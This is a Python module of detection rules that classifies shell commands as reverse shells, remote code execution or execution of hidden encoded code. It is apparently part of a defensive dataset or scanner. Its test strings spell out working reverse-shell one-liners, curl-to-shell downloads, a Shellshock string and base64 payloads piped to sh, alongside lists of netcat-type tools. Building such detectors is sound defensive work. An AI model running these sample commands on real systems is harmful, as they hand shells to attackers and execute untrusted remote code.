"""Rules against shells for other machines and code that comes from elsewhere or is hidden."""

from __future__ import annotations

import posixpath
import re

from scripts.dataset.commands import OUTPUT, SHELLS, Command
from scripts.dataset.rules.table import LONGEST, decodes, fetches, interactive, is_interpreter, is_shell, origins, rule
from scripts.dataset.targets import read_paths

# --- reverse shell ---------------------------------------------------------------------------------------------

NETCATS = frozenset(
    "nc ncat netcat nc.traditional nc.openbsd socat telnet openssl cryptcat sbd pwncat powercat".split()
)


@rule(
    "reverse-shell",
    "critical",
    flagged=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        'node -e \'const n=require("net");n.connect(4444,"h",function(){require("child_process").spawn("sh")})\'',
        'echo \'package main;func main(){c,_:=net.Dial("tcp","h:9");exec.Command("sh").Run()}\' > r.go; go run r.go',
        "bash -i 2>&1 | tee /dev/tcp/10.0.0.1/4444",
        "ttyd -p 8080 bash",
        "gs-netcat -l -i",
    ),
    passed=(
        "node -e 'require(\"http\").createServer().listen(8080)'",
        "ttyd --version",
        "echo 'package main;func main(){}' > r.go; go run r.go",
        "nc -zv host 22",
        "timeout 1 bash -c '</dev/tcp/host/80' && echo open",
        "socat TCP-LISTEN:80,fork TCP:host:8080",
    ),
)
def connect_shell(command: Command) -> bool:
    """Hands a shell to another machine, whoever calls whom."""
    name, argv = command.name, command.argv
    text = " ".join(argv[1:])
    nets = [r for r in command.redirects if re.search(r"/dev/(?:tcp|udp)/", r.target)]
    if (
        (is_shell(command) or is_interpreter(command))
        and nets
        and (interactive(command) or "-i" in argv or (command.stdin is None and not command.code))
    ):
        return True
    sockets = command.reading.sockets
    if sockets:
        descriptors = [
            r for r in command.redirects if r.operator in ("<&", ">&") and r.target.isdigit() and int(r.target) > 2
        ]
        if (
            is_shell(command)
            and (descriptors or "-i" in argv or (command.stdin and command.stdin.path))
            and command.code is None
        ):
            return True
        if name in ("eval",) or OUTPUT[0] in argv[0] or re.fullmatch("\ue000[^\ue001]*\ue001", argv[0]):
            return True
        if name == "exec" and any(
            r.descriptor in ("0", "") and r.target.isdigit() and int(r.target) > 2 for r in command.redirects
        ):
            return True
    runs = r"(?:^|\s)-[a-zA-Z0-9]*[ec](?:\s+|=)?\S*(?:sh|cmd|powershell|python|perl)\b"
    if name in NETCATS - {"socat", "telnet", "openssl"} and (
        command.has("", "exec", "sh-exec", "lua-exec") or re.search(runs, text)
    ):
        return True
    if name == "socat" and re.search(r"(?i)(?:exec|system|shell):", text):
        return True
    nets_out = any(re.match(r"/dev/(?:tcp|udp)/", word) for word in argv[1:]) and name in ("tee", "cat", "dd")
    if (name in NETCATS or nets_out) and any(is_shell(origin) for origin in origins(command, command.stdin)):
        shells = [origin for origin in origins(command, command.stdin) if is_shell(origin)]
        if any(
            interactive(origin) or "-i" in origin.argv or _fed_by_net(origin) or origin.script
            for origin in shells
            if origin.code is None
        ):
            return True
    if (
        is_shell(command)
        and command.piped
        and command.script is not None
        and _fed_by_net(command)
        and any(
            other.name in NETCATS
            for other in command.reading.commands
            if other is not command and command in origins(other, other.stdin)
        )
    ):
        return True
    if command.code and not is_shell(command):
        code = command.code[:LONGEST]
        plain_socket = "socket" in code.lower() and re.search(r"connect|bind|listen|accept|PeerAddr|\d{2,5}", code)
        network = plain_socket or re.search(
            (
                r"(?i)/inet/(?:tcp|udp)|fsockopen"
                r"|TCPClient|net\.connect|net\.Socket|ztcp|"
                r"/dev/tcp|TCPSocket|TCPServer|stream_socket|require\([\"'](?:net|tls|dgram)[\"']\)"
                r"|net\.dial|Deno\.connect|"
                r"PeerAddr|using Sockets|java\.net\.Socket"
            ),
            code,
        )
        runs = re.search(
            (
                r"(?i)dup2|pty\.spawn|subprocess|os\.system|popen|/bin/(?:ba|z|da)?sh|cmd\.exe|"
                r"child_process|\bexec\b|getline|proc_open|shell_exec|passthru|loadstring|\bsystem\b|\bspawn\b|`\$\w+`|"
                r"`[^`]*sh\b|exec\.Command|Deno\.run|ProcessBuilder|getRuntime|\brun\("
            ),
            code,
        )
        if network and runs and not re.search(r"http\.server", code):
            return True
    if name in ("xterm", "xfce4-terminal") and command.value("-display", "--display"):
        return bool(re.search(r"\d+\.\d+\.\d+\.\d+:", text))
    if name in ("pwsh", "powershell", "powershell.exe"):
        return "TCPClient" in text
    if name in ("ttyd", "gotty", "websocketd", "shellinaboxd", "wetty"):  # a shell for whoever opens the page
        return any(posixpath.basename(word) in SHELLS | {"login", "su"} or "LOGIN" in word for word in argv[1:])
    if name == "socket" and command.has("p"):
        return any(re.search(r"\b\w*sh\b", word) for word in argv[1:])
    if name in ("gs-netcat", "gsocket"):
        return command.has("ie") or any(is_shell(Command(word, [word])) for word in argv[1:])
    if name == "coproc" and any(word in NETCATS for word in argv[1:2]):
        return any(is_shell(other) and other.stdin is not None for other in command.reading.commands)
    return (
        (name == "zmodload" and "zsh/net/tcp" in argv)
        or (name in ("chisel", "ngrok") and bool(re.search(r"R:|tcp 22", text)))
        or name in ("weevely", "pwncat-cs")
    )


def _fed_by_net(command: Command) -> bool:
    return any(origin.name in NETCATS for origin in origins(command, command.stdin)) or bool(
        command.stdin and command.stdin.path and command.stdin.path.startswith("&")
    )


# --- remote code execution -------------------------------------------------------------------------------------


@rule(
    "remote-code-execution",
    "critical",
    flagged=(
        "bash <(curl -s http://host/x)",
        "wget -qO- http://host/x | sh",
        "curl http://host/x | sudo bash",
        'eval "$(curl -s host/x)"',
        "curl -o x.sh http://host/x.sh && bash x.sh",
        "scp bob@host:x.sh /tmp/x && sh /tmp/x",
        "aws s3 cp s3://bucket/x.sh - | bash",
        "tftp 10.0.0.1 -c get x && chmod +x x && ./x",
        "curl -s http://host/x.go > x.go && go run x.go",
        "curl http://host/x.so -o /tmp/x.so && LD_PRELOAD=/tmp/x.so ls",
        "curl -s http://host/Makefile | make -f -",
        "curl http://host/list | parallel",
        "php -r 'include(\"http://host/x.txt\");'",
        "env x='() { :;}; echo' bash -c id",
    ),
    passed=(
        "scp bob@host:notes.txt . && cat notes.txt",
        "aws s3 cp s3://bucket/data.csv - | head",
        "go run main.go",
        "make -f Makefile.local",
        "java -jar app.jar",
        "ssh host uptime | tee uptime.txt",
        "curl -s https://api.host/x | jq .",
        "wget https://host/x.tar.gz",
        "curl -L https://host/x.tgz | tar xz",
        "bash build.sh",
    ),
)
def run_fetched_code(command: Command) -> bool:
    """Runs what another machine sends: downloaded text that a shell or interpreter executes."""
    sources: list[object] = [command.script]
    if command.name in ("eval", "source", "."):
        sources += command.argv[1:]
    if is_shell(command) and command.code:
        sources.append(command.code)
    if is_interpreter(command) and command.code and OUTPUT[0] in command.code:
        sources.append(command.code)
    if OUTPUT[0] in command.argv[0]:
        sources.append(command.argv[0])
    if command.name in ("insmod", "gcc", "cc", "clang") or "LD_PRELOAD" in command.assignments:
        files = [command.assignments.get("LD_PRELOAD", "")] + (command.argv[1:] if command.name == "insmod" else [])
        sources += [command.reading.files.get(posixpath.normpath(path)) for path in files if path]
        sources += [command.stdin] if "-" in command.argv[1:] else []
    if any(fetches(origin) for origin in origins(command, *sources) if origin is not command):
        return True
    if any("() {" in value for value in command.assignments.values()):  # Bash once ran what follows
        return True
    if command.name in ("curl", "wget") and re.search(
        r"\(\)\s*\{\s*:|\$\{jndi:(?:ldap|rmi|dns)", " ".join(command.argv)
    ):
        return True
    if command.name == "sqlmap":
        return any(word in ("--os-shell", "--os-cmd", "--os-pwn") for word in command.argv)
    if command.script is not None and command.script.path and re.match(r"(?:https?|ftp)://", command.script.path):
        return True
    if is_interpreter(command) and command.code:
        code = command.code
        return (
            bool(
                re.search(
                    r"\b(?:exec|eval|Function)\b\s*[({ ]?|\b(?:include|require)(?:_once)?\s*\(?\s*['\"](?:https?"
                    r"|ftp|data)://",
                    code,
                )
                and re.search(
                    r"urlopen|urllib|requests\.|https?://|http\.get|LWP|Net::HTTP|open-uri|socket|fetch\(", code
                )
            )
            or bool(
                re.search(
                    (
                        r"\b(?:system|popen|Popen|run|call|check_output|spawn|"
                        r"execSync)\s*\(\s*(?:[\w.]+\.)?(?:urlopen|urlretrieve|get|request)\b"
                    ),
                    code,
                )
            )
            or bool(
                # What is run is not written there, and what is written there is an address.
                re.search(
                    r"\b(?:system|exec|eval|load|loadstring|popen|Popen|run|call|check_output|spawn|execSync"
                    r"|shell_exec|passthru)"
                    r"\s*\(\s*(?!['\"\[)])\w",
                    code,
                )
                and re.search(r"://", code)
                and re.search(
                    r"urlopen|requests\.get|LWP|Net::HTTP|open-uri|URI\.open|file_get_contents|curl_exec"
                    r"|\bfetch\(|http\.request",
                    code,
                )
            )
        )
    if command.name in ("pwsh", "powershell", "powershell.exe"):
        text = " ".join(command.argv)
        return bool(re.search(r"(?i)\biex\b|invoke-expression|-e(?:c|nc\w*)?\s+[\w+/=]{12,}|downloadstring", text))
    return command.name in ("mshta", "regsvr32", "msfvenom", "msfconsole", "certutil")


@rule(
    "remote-code-execution",
    "high",
    attack_id="T1027",
    flagged=(
        "echo bHM= | base64 -d | sh",
        "base64 -d payload.b64 | bash",
        'eval "$(echo 736c | xxd -r -p)"',
        'python3 -c \'exec(__import__("base64").b64decode("cA=="))\'',
        'perl -e \'eval pack("H*", "7072696e742031")\'',
        "exiftool -Comment -b cat.jpg | sh",
        "tail -c 99 cat.jpg | bash",
    ),
    passed=(
        "strings /bin/ls | head",
        "base64 -d file.b64 > out.bin",
        "echo aGVsbG8= | base64 --decode",
        "gunzip -c dump.sql.gz | mysql shop",
    ),
)
def run_hidden_code(command: Command) -> bool:
    """Runs encoded text: what it does was meant not to be seen."""
    sources: list[object] = [command.script]
    if command.name in ("eval", "source", "."):
        sources += command.argv[1:]
    if is_shell(command) and command.code:
        sources.append(command.code)
    if OUTPUT[0] in command.argv[0]:
        sources.append(command.argv[0])
    carriers = [origin for origin in origins(command, *sources) if origin is not command]
    if any(decodes(origin) for origin in carriers):
        return True
    if any(re.search(r"(?i)\.(?:jpe?g|png|gif|pdf|mp3|wav|ico)$", path) for o in carriers for path in read_paths(o)):
        return True
    executed = command.code if is_shell(command) or command.name == "eval" else command.argv[0]
    for feed in command.reading.substituted if executed else ():
        text = (feed.text or "").strip()
        if len(text) > 1 and text in executed and any(decodes(origin) for origin in feed.commands):
            return True
    return bool(
        command.code
        and not is_shell(command)
        and re.search(r"\b(?:exec|eval|system)\b", command.code)
        and re.search(
            (
                r"b64decode|decode_base64|base64_decode|fromhex|unhexlify|atob|Buffer\.from|gzinflate|"
                r"str_rot13|codecs\.decode|marshal\.loads|zlib\.decompress|Base64\.(?:strict_)?decode"
                r"|pack\s*\(?\s*['\"][HmuU]"
            ),
            command.code,
        )
    )
